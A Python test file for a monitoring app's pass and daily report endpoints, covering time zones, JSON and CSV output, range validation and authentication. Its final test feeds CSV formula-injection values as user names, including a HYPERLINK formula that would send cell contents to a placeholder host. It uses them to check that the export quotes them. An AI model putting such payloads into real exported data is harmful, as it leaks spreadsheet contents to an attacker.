"""GET /v1/reports/passes and /v1/reports/daily on a scripted day, through the real store:
each pass with its before/after figures, per day the passes, their mean effect and the minutes
with a diversion alert open, in the site's days (Europe/Berlin, UTC+2 in May); JSON and CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest

from tests.test_api_support import Clock, auth, client_for, insert_alert, site_config, write_live

BERLIN = timezone(timedelta(hours=2))  # summer time on the scripted days
NOW = datetime(2024, 5, 6, 18, 0, tzinfo=BERLIN)


def local(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2024, 5, day, hour, minute, tzinfo=BERLIN)


@pytest.fixture
def client(tmp_path):
    """The scripted days. 5 May: a3 raised 23:50, cleared 00:10 on the 6th. 6 May: a1 08:00
    (accepted 08:02 with 14 waiting and a 15 min wait, done 08:05, 8 waiting and a 5 min wait
    at 08:15, 3 of 4 kiosks in use), cleared 08:30; a2 08:20-08:40, never accepted; a4 raised
    17:30, asked again 17:50, still open at 18:00 (now); a camera alert, which is no diversion."""
    client = client_for(site_config(tmp_path), Clock(NOW))
    store = client.app.state.lobbywatch.store.store()
    insert_alert(store, "a3", local(5, 23, 50))
    store.clear_alert("a3", local(6, 0, 10), 4.0, [])
    insert_alert(store, "a1", local(6, 8))
    write_live(store, local(6, 8, 2), {"waiting": 14.0})
    store.apply_ack("a1", "mgr-1", "accepted", local(6, 8, 2), wait_s=900.0)
    store.apply_ack("a1", "mgr-1", "pass_done", local(6, 8, 5))
    store.record_effect("a1", 8.0, local(6, 8, 15), wait_s=300.0, kiosks_in_use=3.0,
                        kiosks_capacity=4)  # fmt: skip
    store.clear_alert("a1", local(6, 8, 30), 5.0, [])
    insert_alert(store, "a2", local(6, 8, 20))
    store.clear_alert("a2", local(6, 8, 40), 5.0, [])
    insert_alert(store, "a4", local(6, 17, 30))
    store.reask_alert("a4", 2, local(6, 17, 50), json.dumps({"metric": "wait", "value": 21}), [])
    insert_alert(store, "cam", local(6, 9), kind="camera")
    return client


def get(client, path: str, **params: str):
    response = client.get(path, params=params, headers=auth("viewer"))
    assert response.status_code == 200, response.text
    return response


def test_each_pass_of_the_day_with_its_changes_in_site_time(client):
    got = get(client, "/v1/reports/passes", **{"from": "2024-05-06", "to": "2024-05-06"}).json()
    assert (got["start"], got["end"], got["timezone"]) == ("2024-05-06", "2024-05-06",
                                                           "Europe/Berlin")  # fmt: skip
    rows = got["passes"]
    assert [(p["alert_id"], p["number"]) for p in rows] == [
        ("a1", 1), ("a2", 1), ("a4", 1), ("a4", 2)
    ]  # fmt: skip
    a1 = rows[0]
    assert a1["rule"] == "waiting-full" and a1["asked_at"] == "2024-05-06T08:00:00+02:00"
    assert a1["accepted_at"] == "2024-05-06T08:02:00+02:00" and a1["done_by"] == "mgr-1"
    assert (a1["count_before"], a1["count_after"], a1["count_change"]) == (14.0, 8.0, -6.0)
    assert (a1["wait_before_minutes"], a1["wait_after_minutes"]) == (15.0, 5.0)
    assert a1["wait_change_minutes"] == -10.0
    assert (a1["kiosks_in_use_after"], a1["kiosks_capacity"]) == (3.0, 4)
    a2 = rows[1]
    assert a2["accepted_at"] is None and a2["count_change"] is None
    assert a2["wait_change_minutes"] is None and a2["measured_at"] is None
    assert rows[3]["asked_at"] == "2024-05-06T17:50:00+02:00"


def test_each_day_counts_passes_their_mean_effect_and_the_minutes_with_an_alert_open(client):
    got = get(client, "/v1/reports/daily", **{"from": "2024-05-05", "to": "2024-05-07"}).json()
    may5, may6, may7 = got["days"]
    assert may5 == {
        "day": "2024-05-05", "alerts_raised": 1, "passes_asked": 1, "passes_accepted": 0,
        "passes_done": 0, "passes_measured": 0, "mean_count_change": None,
        "mean_wait_change_minutes": None, "minutes_alert_open": 10.0, "peak_wait_minutes": None,
    }  # fmt: skip
    assert may6 == {
        "day": "2024-05-06", "alerts_raised": 3, "passes_asked": 4, "passes_accepted": 1,
        "passes_done": 1, "passes_measured": 1, "mean_count_change": -6.0,
        "mean_wait_change_minutes": -10.0,
        # 00:00-00:10 (a3), 08:00-08:40 (a1 and a2 overlapping, once), 17:30-18:00 (a4, now)
        "minutes_alert_open": 80.0, "peak_wait_minutes": 15.0,
    }  # fmt: skip
    assert may7["passes_asked"] == 0 and may7["minutes_alert_open"] == 0.0  # not begun


def test_without_dates_the_report_is_of_today(client):
    (today,) = get(client, "/v1/reports/daily").json()["days"]
    assert today["day"] == "2024-05-06" and today["passes_asked"] == 4
    assert len(get(client, "/v1/reports/passes").json()["passes"]) == 4
    (only,) = get(client, "/v1/reports/daily", **{"to": "2024-05-05"}).json()["days"]
    assert only["day"] == "2024-05-05"


@pytest.mark.parametrize("how", ["format", "accept"])
def test_both_reports_as_csv(client, how):
    params = {"from": "2024-05-06", "to": "2024-05-06"}
    headers = auth("viewer")
    if how == "format":
        params["format"] = "csv"
    else:
        headers["Accept"] = "text/csv"
    passes = client.get("/v1/reports/passes", params=params, headers=headers)
    assert passes.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(passes.content.decode("utf-8-sig"))))
    assert [r["alert_id"] for r in rows] == ["a1", "a2", "a4", "a4"]
    assert rows[0]["count_change"] == "-6.0" and rows[0]["wait_change_minutes"] == "-10.0"
    assert rows[1]["count_change"] == "" and rows[0]["asked_at"] == "2024-05-06 08:00:00"
    daily = client.get("/v1/reports/daily", params=params, headers=headers)
    (day,) = csv.DictReader(io.StringIO(daily.content.decode("utf-8-sig")))
    assert day["day"] == "2024-05-06" and day["minutes_alert_open"] == "80.0"
    assert 'filename="daily.csv"' in daily.headers["content-disposition"]


@pytest.mark.parametrize("path", ["/v1/reports/passes", "/v1/reports/daily"])
@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"from": "2024-05-07", "to": "2024-05-06"}, "start must be before end"),
        ({"from": "2024-01-01", "to": "2024-04-02"}, "93 days is longer than the 92 days"),
        ({"from": "2024-05-32"}, "date"),
        ({"from": "yesterday"}, "date"),
    ],
)
def test_bad_ranges_are_a_422_that_says_why(client, path, params, message):
    response = client.get(path, params=params, headers=auth("viewer"))
    assert response.status_code == 422 and message in response.text


def test_92_days_are_fine_and_days_outside_the_recorded_years_are_left_out(client):
    days = get(client, "/v1/reports/daily", **{"from": "2024-02-05", "to": "2024-05-06"})
    assert len(days.json()["days"]) == 92
    far = get(client, "/v1/reports/daily", **{"from": "9999-12-30", "to": "9999-12-31"})
    assert far.json()["days"] == []
    edge = get(client, "/v1/reports/passes", **{"from": "1999-12-31", "to": "2000-01-01"})
    assert edge.json()["passes"] == []


@pytest.mark.parametrize("path", ["/v1/reports/passes", "/v1/reports/daily"])
def test_the_reports_need_a_key(client, path):
    assert client.get(path).status_code == 401


def test_alert_json_has_the_passes_asked_and_the_details_of_the_latest_ask(client):
    start = {"start": "2024-05-06T00:00:00+02:00"}
    alerts = {a["alert_id"]: a for a in get(client, "/v1/alerts", **start).json()["alerts"]}
    assert alerts["a4"]["passes"] == 2
    assert alerts["a4"]["details"] == {"metric": "wait", "value": 21}
    assert (alerts["a1"]["passes"], alerts["a1"]["details"]) == (1, None)
    assert alerts["cam"]["passes"] == 0


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
)
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_pass_csv(tmp_path, name):
    client = client_for(site_config(tmp_path), Clock(NOW))
    store = client.app.state.lobbywatch.store.store()
    insert_alert(store, "a1", local(6, 8))
    store.apply_ack("a1", name, "pass_done", local(6, 8, 5))
    passes = client.get("/v1/reports/passes", params={"format": "csv"}, headers=auth("viewer")).text
    (row,) = csv.DictReader(io.StringIO(passes))
    assert row["accepted_by"] == row["done_by"] == "'" + name
